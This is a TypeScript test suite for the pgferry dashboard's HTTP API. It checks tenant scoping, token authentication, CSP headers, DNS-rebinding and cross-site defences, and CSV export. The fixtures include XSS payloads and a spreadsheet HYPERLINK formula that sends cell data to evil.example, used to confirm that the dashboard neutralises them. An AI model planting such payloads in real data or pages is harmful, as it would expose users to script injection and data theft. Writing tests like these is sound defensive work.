// `pgferry dashboard`: the JSON API and its safety, over HTTP against a running server on a
// real test database — loads with hostile values, two tenants, a token, actions.
import http from 'node:http';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { startDashboard } from '../src/dashboard/dashboard-server.js';
import { startWorker } from '../src/jobs/worker.js';
import { load } from '../src/load/load.js';
import { startDiamondPlan } from './helpers/diamond-plan.js';
import { productsMapping, productsTable, registerLoadLike, tempDir, writeFile } from './helpers/fixtures.js';
import { createTestDatabase, type TestDatabase } from './helpers/test-database.js';

let db: TestDatabase;
let acmeLoad: number;
let globexLoad: number;
const closers: (() => Promise<void>)[] = [];

/** A supplier's hostile values: markup in a name, a script in a rejected price, a formula. */
const HOSTILE_NAME = '<script>alert(1)</script>';
const HOSTILE_PRICE = '<img src=x onerror=alert(2)>';
const FORMULA_PRICE = '=HYPERLINK("http://evil.example/?"&A1,"click")';

beforeAll(async () => {
  db = await createTestDatabase();
  const dir = tempDir();
  await productsTable(db.pool, ['acme', 'globex']);
  const mapping = productsMapping(dir);
  const acme = writeFile(
    dir,
    'acme.csv',
    `sku,name,price\nA,"${HOSTILE_NAME}",1\nB,b,"${HOSTILE_PRICE}"\nC,c,"${FORMULA_PRICE.replaceAll('"', '""')}"\nD,d,-3\nE,e,oops\n`,
  );
  const a = await load(db.pool, { file: acme, tenant: 'acme', mapping });
  expect(a.status).toBe('succeeded');
  acmeLoad = a.loadId!;
  const globex = writeFile(dir, 'globex.csv', 'sku,name,price\nG,g,5\nH,h,bad\n');
  const g = await load(db.pool, { file: globex, tenant: 'globex', mapping });
  globexLoad = g.loadId!;
});

afterAll(async () => {
  for (const close of closers.splice(0)) await close();
});

async function start(options: Parameters<typeof startDashboard>[1] = {}) {
  const dashboard = await startDashboard(db.pool, { port: 0, ...options });
  closers.push(dashboard.close);
  return dashboard;
}

async function getJson(base: string, path: string, init?: RequestInit) {
  const res = await fetch(new URL(path, base), init);
  return { res, body: (await res.json()) as any }; // eslint-disable-line @typescript-eslint/no-explicit-any
}

describe('the JSON API', () => {
  it('lists recent loads, newest first, filtered by tenant and status', async () => {
    const { url } = await start();
    const all = await getJson(url, '/api/loads');
    expect(all.res.status).toBe(200);
    expect(all.res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(all.body.map((l: { id: number }) => l.id)).toEqual([globexLoad, acmeLoad]);
    expect(all.body[1]).toMatchObject({
      tenant: 'acme',
      mapping: 'products',
      status: 'succeeded',
      counts: { read: 5, staged: 5, rejected: 4, inserted: 1 },
      progress: null,
    });
    const acme = await getJson(url, '/api/loads?tenant=acme');
    expect(acme.body.map((l: { id: number }) => l.id)).toEqual([acmeLoad]);
    const failed = await getJson(url, '/api/loads?status=failed');
    expect(failed.body).toEqual([]);
    const succeeded = await getJson(url, '/api/loads?status=succeeded&limit=1');
    expect(succeeded.body.map((l: { id: number }) => l.id)).toEqual([globexLoad]);
  });

  it('shows a load: counts as their reconciliation, timings, reject reasons, compiled SQL', async () => {
    const { url } = await start();
    const { res, body } = await getJson(url, `/api/loads/${acmeLoad}`);
    expect(res.status).toBe(200);
    expect(body.reconciliation).toEqual([
      { equation: 'read = unparseable + staged', left: 5, right: 5, holds: true },
      { equation: 'staged = rejected + duplicates + promoted', left: 5, right: 5, holds: true },
    ]);
    expect(body.timings.map((t: { step: string }) => t.step).slice(0, 3)).toEqual(['stage', 'transform', 'promote']);
    expect(body.reasons.reduce((n: number, r: { count: number }) => n + r.count, 0)).toBeGreaterThanOrEqual(4);
    expect(body.reasons.every((r: { rule: string }) => typeof r.rule === 'string')).toBe(true);
    expect(body.compiledSql).toMatch(/^create function ferry_t_acme\.transform_\d+\(\)/);
    expect(body.target).toBe('app.products');
    expect((await getJson(url, '/api/loads/999999')).res.status).toBe(404);
  });

  it('pages and searches the rejects, hostile values as they were', async () => {
    const { url } = await start();
    const first = await getJson(url, `/api/loads/${acmeLoad}/rejects?pageSize=2`);
    expect(first.body).toMatchObject({ total: 4, page: 1, pageSize: 2 });
    expect(first.body.rows.map((r: { line: number }) => r.line)).toEqual([3, 4]);
    expect(first.body.rows[0]).toMatchObject({ where: 'line 3', column: 'price', value: HOSTILE_PRICE });
    const second = await getJson(url, `/api/loads/${acmeLoad}/rejects?pageSize=2&page=2`);
    expect(second.body.rows.map((r: { line: number }) => r.line)).toEqual([5, 6]);
    const found = await getJson(url, `/api/loads/${acmeLoad}/rejects?q=${encodeURIComponent('OOPS')}`);
    expect(found.body.total).toBe(1);
    expect(found.body.rows[0].value).toBe('oops');
    // % is a character to find, not a wildcard.
    expect((await getJson(url, `/api/loads/${acmeLoad}/rejects?q=%25`)).body.total).toBe(0);
  });

  it('downloads the rejects as CSV with formulas neutralised', async () => {
    const { url } = await start();
    const res = await fetch(new URL(`/api/loads/${acmeLoad}/rejects.csv`, url));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="load-${acmeLoad}-rejects.csv"`);
    const lines = (await res.text()).trimEnd().split('\n');
    expect(lines[0]).toBe('sku,name,price,pgferry_line,pgferry_reasons,pgferry_raw');
    expect(lines).toHaveLength(5);
    const formula = lines.find((l) => l.startsWith('C,'));
    expect(formula).toContain(`"'=HYPERLINK(`);
    // A plain negative number stays a number.
    expect(lines.find((l) => l.startsWith('D,'))).toMatch(/^D,d,-3,5,/);
    expect((await fetch(new URL('/api/loads/999999/rejects.csv', url))).status).toBe(404);
  });

  it('lists syncs and plans (none here) and answers 404 for what it does not know', async () => {
    const { url } = await start();
    expect((await getJson(url, '/api/syncs')).body).toEqual([]);
    expect((await getJson(url, '/api/plans')).body).toEqual([]);
    const unknown = await getJson(url, '/api/nothing');
    expect(unknown.res.status).toBe(404);
    expect((await fetch(new URL('/assets/../package.json', url))).status).toBe(404);
  });
});

describe('syncs, plans and workers', () => {
  it('lists plan runs with their steps and what each waits for', async () => {
    const runId = await startDiamondPlan(db.pool);
    const { url } = await start();
    const [run] = (await getJson(url, '/api/plans')).body;
    expect(run).toMatchObject({ id: runId, name: 'diamond', status: 'running', dryRun: false });
    expect(run.steps.map((s: { name: string; after: string[] }) => [s.name, s.after])).toEqual([
      ['customers', []],
      ['suppliers', ['customers']],
      ['products', ['customers']],
      ['inventory', ['suppliers', 'products']],
    ]);
  });

  it('lists the syncs with their state, next run and pause; --tenant shows only its own', async () => {
    const declare = (name: string, tenant: string, schedule: string | null) =>
      db.pool.query(`select ferry.declare_sync($1, $2, 'products', 'upsert', $3, '{}')`, [name, tenant, schedule]);
    await declare('acme_nightly', 'acme', '0 3 * * *');
    await declare('globex_by_hand', 'globex', null);
    await db.pool.query(`update ferry.syncs set paused_at = now(), paused_by = 'test' where name = 'globex_by_hand'`);
    const { url } = await start();
    const syncs = (await getJson(url, '/api/syncs')).body;
    expect(syncs.map((s: { name: string }) => s.name)).toEqual(['acme_nightly', 'globex_by_hand']);
    expect(syncs[0]).toMatchObject({ tenant: 'acme', mode: 'upsert', schedule: '0 3 * * *', paused: false });
    expect(syncs[0].cursor).toBeNull();
    expect(new Date(syncs[0].nextRun).getUTCHours()).toBe(3);
    expect(syncs[1]).toMatchObject({ tenant: 'globex', paused: true, nextRun: null, lastOutcome: null });
    const scoped = await start({ tenant: 'globex' });
    expect((await getJson(scoped.url, '/api/syncs')).body.map((s: { name: string }) => s.name)).toEqual([
      'globex_by_hand',
    ]);
  });

  it('says how many workers live; not shown with --tenant', async () => {
    const { url } = await start();
    expect((await getJson(url, '/api/workers')).body).toEqual({ alive: 0, running: [] });
    const worker = await startWorker(db.pool, { concurrency: 1 });
    try {
      await expect.poll(async () => (await getJson(url, '/api/workers')).body.alive).toBe(1);
    } finally {
      await worker.stop();
    }
    expect((await getJson(url, '/api/workers')).body.alive).toBe(0);
    const scoped = await start({ tenant: 'acme' });
    expect((await getJson(scoped.url, '/api/workers')).res.status).toBe(403);
  });
});

describe('safety', () => {
  it('sends a strict Content-Security-Policy, nosniff and no framing with every response', async () => {
    const { url } = await start();
    for (const path of ['/', `/loads/${acmeLoad}`, '/api/loads', '/api/nothing', '/assets/dashboard.js']) {
      const res = await fetch(new URL(path, url));
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).not.toContain('unsafe-inline');
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).toContain("default-src 'none'");
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      await res.arrayBuffer();
    }
  });

  it('listens on loopback by default and answers only requests that name a loopback host', async () => {
    const { url } = await start();
    expect(new URL(url).hostname).toBe('127.0.0.1');
    // fetch will not send another Host: a plain request does, as a browser sent to a rebound name would.
    const rebound = await new Promise<number>((resolve, reject) => {
      const req = http.get(new URL('/api/loads', url), { headers: { Host: 'evil.example:5710' } }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      req.on('error', reject);
    });
    expect(rebound).toBe(421);
  });

  it('refuses to listen beyond loopback without a token', async () => {
    await expect(startDashboard(db.pool, { port: 0, host: '0.0.0.0' })).rejects.toThrow(
      /listens on 0\.0\.0\.0, beyond this machine, only with a token/,
    );
  });

  it('with a token, answers only requests that carry it (Bearer, or the cookie ?token= sets)', async () => {
    const token = 'a-long-random-secret-for-the-test';
    const { url } = await start({ host: '0.0.0.0', token });
    const base = url.replace('0.0.0.0', '127.0.0.1');
    expect((await fetch(new URL('/api/loads', base))).status).toBe(401);
    expect((await fetch(new URL('/', base))).status).toBe(401);
    expect((await fetch(new URL('/api/loads', base), { headers: { Authorization: 'Bearer wrong' } })).status).toBe(401);
    const bearer = await fetch(new URL('/api/loads', base), { headers: { Authorization: `Bearer ${token}` } });
    expect(bearer.status).toBe(200);
    await bearer.arrayBuffer();

    const handed = await fetch(new URL(`/loads/${acmeLoad}?token=${token}`, base), { redirect: 'manual' });
    expect(handed.status).toBe(303);
    expect(handed.headers.get('location')).toBe(`/loads/${acmeLoad}`);
    const cookie = handed.headers.get('set-cookie') ?? '';
    expect(cookie).toMatch(/HttpOnly/);
    expect(cookie).toMatch(/SameSite=Strict/);
    const withCookie = await fetch(new URL('/api/loads', base), { headers: { Cookie: cookie.split(';')[0] } });
    expect(withCookie.status).toBe(200);
    await withCookie.arrayBuffer();
    expect((await fetch(new URL('/api/loads?token=wrong', base), { redirect: 'manual' })).status).toBe(401);
  });

  it('--tenant limits every answer to that tenant', async () => {
    const { url } = await start({ tenant: 'acme' });
    const loads = (await getJson(url, '/api/loads')).body;
    expect(loads.map((l: { id: number }) => l.id)).toContain(acmeLoad);
    expect(loads.map((l: { tenant: string }) => l.tenant)).toEqual(loads.map(() => 'acme'));
    expect((await getJson(url, '/api/loads?tenant=globex')).body).toEqual([]);
    expect((await getJson(url, `/api/loads/${globexLoad}`)).res.status).toBe(404);
    expect((await getJson(url, `/api/loads/${globexLoad}/rejects`)).res.status).toBe(404);
    expect((await fetch(new URL(`/api/loads/${globexLoad}/rejects.csv`, url))).status).toBe(404);
    expect((await getJson(url, '/api/plans')).res.status).toBe(403);
    expect((await getJson(url, `/api/loads/${acmeLoad}`)).res.status).toBe(200);
    await expect(startDashboard(db.pool, { port: 0, tenant: 'nobody' })).rejects.toThrow(/no tenant nobody/);
  });

  it('is read-only without --allow-actions; with it, cancels and rolls back a load asked by the page, never cross-site', async () => {
    const waiting = await registerLoadLike(db.pool, acmeLoad);
    const action = { method: 'POST', headers: { 'X-Pgferry-Action': '1' } };
    const readOnly = await start();
    const refused = await getJson(readOnly.url, `/api/loads/${waiting}/cancel`, action);
    expect(refused.res.status).toBe(403);
    expect(refused.body.error).toMatch(/read-only: start it with --allow-actions/);

    const { url } = await start({ allowActions: true });
    const crossSite = await fetch(new URL(`/api/loads/${waiting}/cancel`, url), {
      method: 'POST',
      headers: { 'X-Pgferry-Action': '1', Origin: 'http://evil.example' },
    });
    expect(crossSite.status).toBe(403);
    const formPost = await fetch(new URL(`/api/loads/${waiting}/cancel`, url), { method: 'POST' });
    expect(formPost.status).toBe(403);
    const { rows: before } = await db.pool.query('select status from ferry.loads where id = $1', [waiting]);
    expect(before[0].status).toBe('registered');

    const done = await getJson(url, `/api/loads/${waiting}/cancel`, action);
    expect(done.res.status).toBe(200);
    expect(done.body).toEqual({ loadId: waiting, outcome: 'cancelled' });
    expect((await getJson(readOnly.url, `/api/loads/${globexLoad}/rollback`, action)).res.status).toBe(403);
    const rolledBack = await getJson(url, `/api/loads/${globexLoad}/rollback`, action);
    expect(rolledBack.body).toMatchObject({ loadId: globexLoad, outcome: 'rolled_back', deleted: 1, restored: 0 });
    const again = await getJson(url, `/api/loads/${globexLoad}/rollback`, action);
    expect(again.body.outcome).toBe('already_rolled_back');
    const notLoaded = await getJson(url, `/api/loads/${waiting}/rollback`, action);
    expect(notLoaded.res.status, JSON.stringify(notLoaded.body)).toBe(409);
    expect(notLoaded.body.error).toMatch(/cancelled/);
    const other = await start({ allowActions: true, tenant: 'globex' });
    expect((await getJson(other.url, `/api/loads/${acmeLoad}/cancel`, action)).res.status).toBe(404);
    expect((await getJson(other.url, `/api/loads/${acmeLoad}/rollback`, action)).res.status).toBe(404);
  });
});

describe('live updates', () => {
  /** The server-sent events of /api/events that come within ms of act(), as text. */
  async function events(base: string, act: () => Promise<void>, ms = 3000): Promise<string> {
    const controller = new AbortController();
    const res = await fetch(new URL('/api/events', base), { signal: controller.signal });
    expect(res.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let text = decoder.decode((await reader.read()).value); // the opening comment: it listens
    await act();
    const stop = setTimeout(() => controller.abort(), ms);
    try {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) break;
        text += decoder.decode(value);
      }
    } catch {
      // aborted: the time is up
    } finally {
      clearTimeout(stop);
    }
    return text;
  }

  it('tells of a load whose status or progress changes, by LISTEN/NOTIFY; --tenant hides the others', async () => {
    const { url } = await start();
    const scoped = await start({ tenant: 'globex' });
    const loadId = await registerLoadLike(db.pool, acmeLoad);
    const all = events(url, async () => {}, 1500);
    const globexOnly = events(scoped.url, async () => {}, 1500);
    await new Promise((r) => setTimeout(r, 300));
    await db.pool.query(`select ferry.report_progress($1, 'stage', 5, 10, 5, 'w')`, [loadId]);
    expect(await all).toContain(`event: load\ndata: ${loadId}\n\n`);
    expect(await globexOnly).not.toContain('event: load');
  });
});

describe('pages', () => {
  it('serves the loads page and a load page as static HTML whose script comes from the package', async () => {
    const { url } = await start();
    for (const path of ['/', `/loads/${acmeLoad}`, '/syncs', '/plans', '/workers']) {
      const res = await fetch(new URL(path, url));
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
      const html = await res.text();
      // No inline script, nothing from another site: the CSP would refuse both anyway.
      expect(html.match(/<script\b[^>]*>/g)).toEqual(['<script src="/assets/dashboard.js" defer>']);
      expect(html).not.toMatch(/https?:\/\//);
      expect(html).not.toMatch(/ style=| on[a-z]+=/);
    }
    const script = await fetch(new URL('/assets/dashboard.js', url));
    expect(script.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    const js = await script.text();
    expect(js).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(/);
    expect((await getJson(url, '/api/about')).body).toEqual({ tenant: null, allowActions: false });
  });
});
